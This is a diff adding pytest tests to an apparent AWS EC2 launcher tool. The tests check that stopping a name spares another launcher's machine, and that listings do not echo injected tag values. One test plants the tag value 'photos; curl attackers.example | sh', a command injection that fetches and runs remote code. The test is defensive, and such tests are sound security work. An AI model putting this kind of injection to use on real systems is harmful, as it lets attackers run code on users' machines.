@@ -2,13 +2,14 @@
 
 import re
 from collections.abc import Iterator
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
 import pytest
 from moto.scheduler.models import scheduler_backends
 
-from launch.core.names import foreign_tag
+from launch.core.names import foreign_tag, tags
 from launch.data.near.bundle import bundle
 from launch.ec2 import leaks
 from launch.ec2.fleet import Fleet
@@ -219,6 +220,48 @@ def test_stop_ends_it_and_leaves_only_the_snapshot_to_go_on_with(desk: NearDesk)
     assert [one.id for one in desk.snapshots()] == [pending.id]
     assert desk.type("stop", NAME) == 0
     assert f"no instance publishes {NAME}" in desk.text
+
+
+def another_launchers(desk: NearDesk, publishes: str) -> str:
+    """A machine of another launcher's, with all of our tags, into which IAM lets him write any name."""
+    named = tags("demo", "attackers", datetime(2026, 1, 1, tzinfo=UTC), datetime(2199, 1, 1, tzinfo=UTC), "AIDAYOU")
+    named.append({"Key": "aws-ddp-toolkit:publishes", "Value": publishes})
+    made = desk.account.aws().call("ec2", "RunInstances", {
+        "ImageId": desk.account.ami, "InstanceType": "g5.2xlarge", "MinCount": 1, "MaxCount": 1,
+        "SubnetId": desk.account.subnets["us-east-1a"],
+        "TagSpecifications": [{"ResourceType": "instance", "Tags": named}],
+    })  # fmt: skip
+    return str(made["Instances"][0]["InstanceId"])
+
+
+def test_another_launchers_machine_under_the_name_does_not_keep_it_from_being_stopped(desk: NearDesk) -> None:
+    """IAM lets a launcher write any name into the tags of its own machines, and nobody else end these: EC2 refuses a
+    request that names one, and with it the instance that publishes would live on.
+    https://docs.aws.amazon.com/AWSEC2/latest/APIReference/API_TerminateInstances.html
+    """
+
+    def leaves(desk: NearDesk, instance: Any) -> None:
+        raise KeyboardInterrupt
+
+    desk.node = leaves
+    assert desk.near() == 130
+    theirs = another_launchers(desk, NAME)
+    desk.node = lambda desk, instance: None
+    since = len(desk.account.requests)
+
+    assert desk.type("stop", NAME) == 0, desk.text
+    assert [one.id for one in desk.instances] == [theirs]
+    said = [f"{call.operation} {call.params}" for call in writes(desk, since)]
+    assert [words for words in said if theirs in words or "aws-ddp-toolkit-demo" in words] == []
+
+
+def test_no_command_to_be_copied_has_a_name_that_is_none(desk: NearDesk) -> None:
+    another_launchers(desk, "photos; curl attackers.example | sh")
+    assert desk.type("list") == 0
+    assert "curl" not in desk.text
+    theirs = another_launchers(desk, NAME)
+    assert desk.type("list") == 0
+    assert theirs in desk.text
 
 
 def test_what_fails_on_the_instance_ends_the_command_with_its_code_and_reason(
